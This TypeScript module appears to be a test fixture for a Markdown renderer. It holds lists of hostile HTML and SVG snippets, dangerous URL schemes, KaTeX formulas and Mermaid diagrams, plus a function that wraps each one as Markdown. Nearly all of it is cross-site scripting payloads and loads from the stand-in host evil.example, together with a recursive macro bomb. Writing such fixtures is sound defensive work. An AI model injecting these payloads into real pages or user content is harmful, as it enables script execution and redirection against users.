/** Raw HTML and SVG that runs, loads or leads away where it is put into a page as it is. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=https://evil.example/x.js></script>', '<script/src=//evil.example>',
  '<img src=x onerror=alert(1)>', '<img src="https://evil.example/p.png">', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img/src=x/onerror=alert(1)//',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>', '<img srcset="https://evil.example/a 1x">', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', '<svg><image href="https://evil.example/a.png"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>', '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math href="javascript:alert(1)">x</math>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>', '<video src=https://evil.example/v autoplay onloadstart=alert(1)>', '<audio src=x onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus>', '<select onfocus=alert(1) autofocus>', '<form action="https://evil.example"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>', '<a href="javascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<style>@import "https://evil.example/x.css";</style>', '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>', '<div onmouseover="alert(1)">x</div>', '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<x onclick=alert(1)>x</x>',
  '<p>text\n<script>\nalert(1)\n</script>', '<div><img src=x onerror="alert`1`"></div>', '<template><script>alert(1)</script></template>', '<portal src=https://evil.example>',
];

/** Addresses that must not become a link or a picture. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'java&#x0A;script:alert(1)', '&#x6A;avascript:alert(1)',
  '%6Aavascript:alert(1)', 'javascript://%0aalert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg/onload=alert(1)>', 'file:///etc/passwd', 'app://salon/index.html', 'blob:https://evil.example/1', 'filesystem:https://evil.example/1',
  'about:blank', 'chrome://settings', 'view-source:https://evil.example', 'ws://evil.example', 'ftp://evil.example/x', 'smb://evil.example/x', 'ms-msdt:/id',
  'tel:110', '//evil.example/x', '/x', '../x', '#/settings', '\\\\evil.example\\x', 'x-apple.systempreferences:', 'intent://x#Intent;end', 'ssh://evil.example',
];

/** Formulas that would link, load or run in a KaTeX that trusts its input, or never end. */
const HOSTILE_FORMULAS: readonly string[] = [
  String.raw`\href{javascript:alert(1)}{x}`, String.raw`\href{https://evil.example}{x}`, String.raw`\url{javascript:alert(1)}`,
  String.raw`\includegraphics{https://evil.example/a.png}`, String.raw`\includegraphics[alt=x]{data:image/svg+xml,x}`, String.raw`\htmlClass{x" onmouseover="alert(1)}{x}`,
  String.raw`\htmlId{x}{y}`, String.raw`\htmlStyle{background:url(https://evil.example)}{x}`, String.raw`\htmlData{onclick=alert(1)}{x}`,
  String.raw`\text{<script>alert(1)</script>}`, String.raw`\text{<img src=x onerror=alert(1)>}`, String.raw`\unknown{<img src=x onerror=alert(1)>}`,
  String.raw`\def\a{\a\a}\a`, String.raw`\color{red" onclick="alert(1)}x`, String.raw`\textcolor{url(https://evil.example)}{x}`, String.raw`\rule{1e9em}{1e9em}`,
];

/** Mermaid texts that try to run, load, or loosen the rules. */
export const HOSTILE_DIAGRAMS: readonly string[] = [
  'graph TD\nA-->B\nclick A href "javascript:alert(1)"', 'graph TD\nA-->B\nclick A call alert(1)', 'graph TD\nA-->B\nclick A "https://evil.example" _blank',
  'graph TD\nA["<img src=x onerror=alert(1)>"]', 'graph TD\nA["<script>alert(1)</script>"]', 'graph TD\nA["<iframe srcdoc=x></iframe>"]',
  '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA["<img src=x onerror=alert(1)>"]', '%%{init: {"flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<b onclick=alert(1)>x</b>"]',
  '%%{init: {"themeCSS": "@import url(https://evil.example/x.css)"}}%%\ngraph TD\nA-->B', '%%{init: {"fontFamily": "x;} *{background:url(https://evil.example)}"}}%%\ngraph TD\nA',
  '---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA["<img src=x onerror=alert(1)>"]', 'graph TD\nstyle A fill:url(https://evil.example)\nA-->B',
  'graph TD\nA@{ img: "https://evil.example/p.png", label: "x" }', 'sequenceDiagram\nparticipant A as <img src=x onerror=alert(1)>\nA->>A: x', 'sequenceDiagram\nlink A: x @ javascript:alert(1)\nA->>A: x',
  'classDiagram\nclass A["<script>alert(1)</script>"]\nlink A "javascript:alert(1)"', 'pie title <img src=x onerror=alert(1)>\n"<script>alert(1)</script>": 1',
  'gantt\nsection x\ny :a, 2026-01-01, 1d\nclick a href "javascript:alert(1)"', 'mindmap\n  root(("<img src=x onerror=alert(1)>"))', 'graph TD\nA["$$\\href{javascript:alert(1)}{x}$$"]',
  'graph TD\n' + 'A-->B\n'.repeat(2000), '```\n<script>alert(1)</script>', 'not a diagram <img src=x onerror=alert(1)>',
];

/** Every way Markdown has to name an address. */
function linksTo(address: string): string[] {
  return [`[x](${address})`, `[x](<${address}>)`, `![x](${address})`, `<${address}>`, `[x][a]\n\n[a]: ${address}`, `[![x](${address})](${address})`];
}

/** All of them as Markdown. */
export function hostileMarkdown(): string[] {
  return [
    ...HOSTILE_HTML,
    ...HOSTILE_HTML.map((html) => `| a |\n|---|\n| ${html.replaceAll('\n', ' ')} |`),
    ...HOSTILE_ADDRESSES.flatMap(linksTo),
    ...HOSTILE_FORMULAS.flatMap((formula) => [`$${formula}$`, `$$\n${formula}\n$$`]),
    ...HOSTILE_DIAGRAMS.map((code) => `\`\`\`mermaid\n${code}\n\`\`\`\n`),
    ...HOSTILE_HTML.map((html) => `\`\`\`html" onclick="alert(1)\n${html}\n\`\`\``),
  ];
}
